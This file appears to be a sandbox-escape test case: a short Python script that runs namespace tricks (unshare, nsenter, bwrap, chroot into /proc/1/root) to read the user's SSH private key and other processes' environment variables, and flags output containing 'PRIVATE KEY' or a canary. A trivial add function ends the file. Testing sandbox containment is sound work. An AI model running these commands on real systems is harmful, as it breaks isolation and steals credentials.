#: title = "A command makes namespaces of its own and enters those of others"
#: why = "Who is root in a new user namespace may mount, and reach what was only hidden by a mount."
#: kind = "steps"
#: answer = "either"
#: ends = ["any"]
#: boasts = true
import subprocess


def tell(*command):
    """What a command prints, whatever becomes of it."""
    try:
        done = subprocess.run(command, capture_output=True, timeout=20)
    except (OSError, subprocess.SubprocessError):
        return ""
    text = (done.stdout + done.stderr).decode("utf-8", "replace")
    if "CANARY" in text or "PRIVATE KEY" in text:
        boast(text)
    return text


for command in (
    ["unshare", "-Urm", "sh", "-c", "umount -l /tmp /proc; cat @HOME@/.ssh/id_ed25519"],
    ["unshare", "-Urpf", "--mount-proc", "sh", "-c", "cat /proc/*/environ"],
    ["nsenter", "-t", "1", "-a", "cat", "@HOME@/.ssh/id_ed25519"],
    ["bwrap", "--bind", "/", "/", "cat", "@HOME@/.ssh/id_ed25519"],
    ["chroot", "/proc/1/root", "cat", "@HOME@/.ssh/id_ed25519"],
):
    tell(*command)


def add(a, b):
    return a + b
